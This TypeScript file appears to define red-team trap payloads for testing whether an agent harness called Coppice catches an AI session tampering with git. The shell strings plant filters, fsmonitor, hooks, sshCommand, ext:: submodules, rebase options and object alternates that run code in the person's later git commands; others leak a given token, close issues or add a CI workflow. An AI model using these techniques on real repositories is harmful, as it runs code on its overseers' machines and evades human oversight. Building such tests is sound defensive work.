import type { Payload } from '../payload.ts';

const trap = (name: string, run: string, more: Partial<Payload> = {}): Payload => ({
  name,
  run,
  trap: true,
  ...more,
});

/** Runs where it must not when the person's git, or Coppice's, runs it. */
const PROGRAM = 'sh -c "echo $MARK >>$PERSON/$MARK; cat"';

/** Traps for the git of whoever comes after the turn: Coppice, another session, or the person. */
export const GIT_TRAPS: readonly Payload[] = [
  trap(
    'commits a nested repository with a filter',
    `git init -q nested; git -C nested config filter.x.clean '${PROGRAM}'; git -C nested config filter.x.smudge '${PROGRAM}'; echo "* filter=x" >nested/.gitattributes; echo x >nested/file; git -C nested add -A; git -C nested commit -qm x; git add -A; git commit -qm nested; echo y >nested/file`,
    { short: true },
  ),
  trap(
    'has a nested repository watch files',
    `git init -q nested; git -C nested config core.fsmonitor '${PROGRAM}'; echo x >nested/file; git -C nested add -A; git -C nested -c core.fsmonitor= commit -qm x; git add -A; git commit -qm nested`,
  ),
  trap(
    'plants hooks and options in its own git',
    `for hook in pre-commit post-commit post-checkout pre-push reference-transaction post-index-change; do printf '#!/bin/sh\\ntouch "$PERSON/$MARK"\\n' >"$OWN_GIT/hooks/$hook"; chmod +x "$OWN_GIT/hooks/$hook"; done; git config core.hooksPath "$PWD/hooks"; git config core.sshCommand '${PROGRAM}'; git config alias.status '!${PROGRAM}'`,
  ),
  trap(
    'leads its .git file to a repository with options',
    `git init -q --bare evil; git --git-dir=evil config core.fsmonitor '${PROGRAM}'; rm -f .git; mv .git old; echo "gitdir: $PWD/evil" >.git`,
  ),
  trap(
    'makes its branch a link to main',
    'git symbolic-ref refs/heads/issue-$ISSUE refs/heads/main; git symbolic-ref HEAD refs/heads/main; echo x >x; git add x; git commit -qm x',
  ),
  trap(
    'replaces an object by another',
    'blob=$(echo "$MARK" | git hash-object -w --stdin); git replace -f "$(git rev-parse HEAD:README.md)" $blob; git replace -f "$(git rev-parse HEAD~0)" "$(git rev-parse HEAD~1)"',
  ),
  trap(
    'poisons an object',
    'one=$(git rev-parse HEAD:README.md); to="$OWN_GIT/objects/$(echo $one | cut -c1-2)"; mkdir -p $to; echo "$MARK" | git hash-object -w --stdin >name; other=$(cat name); cp "$OWN_GIT/objects/$(echo $other | cut -c1-2)/$(echo $other | cut -c3-)" "$to/$(echo $one | cut -c3-)"; rm name',
  ),
  trap(
    'commits a tree with a .git in it',
    'blob=$(printf "[core]\\n\\tfsmonitor = touch %s/%s\\n" "$PERSON" "$MARK" | git hash-object -w --stdin); inner=$(printf "100644 blob %s\\tconfig\\n" $blob | git mktree); tree=$( (git ls-tree HEAD; printf "040000 tree %s\\t.GIT\\n" $inner) | git mktree); git update-ref HEAD "$(git commit-tree -p HEAD -m tree $tree)"',
  ),
  trap(
    'commits a submodule that runs a program',
    'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = ext::sh -c touch%% $PERSON/$MARK\\n\\tupdate = !touch $PERSON/$MARK\\n" >.gitmodules; git add .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x; git commit -qm submodule',
  ),
  trap(
    'borrows objects of others',
    'echo "$VICTIM_GIT/objects" >>"$OWN_GIT/objects/info/alternates"; echo "$PERSON" >"$OWN_GIT/objects/info/http-alternates"',
  ),
  trap(
    'leaves a half-done rebase with options for git',
    'mkdir -p "$OWN_GIT/rebase-merge"; echo "--exec=touch $PERSON/$MARK" >"$OWN_GIT/rebase-merge/head-name"; echo "--upload-pack=touch $PERSON/$MARK" >"$OWN_GIT/rebase-merge/onto"',
  ),
  trap(
    'makes branches and tags of its own',
    'git branch $MARK; git tag $MARK; git update-ref refs/heads/main HEAD; git update-ref refs/remotes/origin/main HEAD',
  ),
  trap(
    'commits a secret that it was given',
    'printf "key: %s\\n" "$REDTEAM_GIVEN_TOKEN" >settings.txt; git add -A; git commit -qm settings',
    { short: true },
  ),
  trap(
    'commits a secret in a message, a name and an archive',
    'echo x >"name-$REDTEAM_GIVEN_TOKEN"; echo "$REDTEAM_GIVEN_TOKEN" >inner; tar cf archive.tar inner; rm inner; git add -A; git commit -qm "uses $REDTEAM_GIVEN_TOKEN"',
  ),
  trap(
    'has commit messages close issues, untold',
    'echo x >x; git add x; git commit -qm "Closes #$VICTIM $MARK"',
  ),
  trap(
    'commits a workflow for CI, untold',
    'mkdir -p .github/workflows; printf "on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\\n" >.github/workflows/$MARK.yml; git add -A; git commit -qm workflow',
  ),
  trap(
    'has attributes choose a driver of the person’s',
    'echo "* filter=person merge=person diff=person" >.gitattributes; echo "* filter=person" >>"$OWN_GIT/info/attributes"; echo "$MARK" >x; git add -A; git commit -qm attributes',
  ),
  trap(
    'removes its worktree from under Coppice',
    'rm -rf ./* .coppice/status.json; mkdir .git-$MARK',
  ),
];
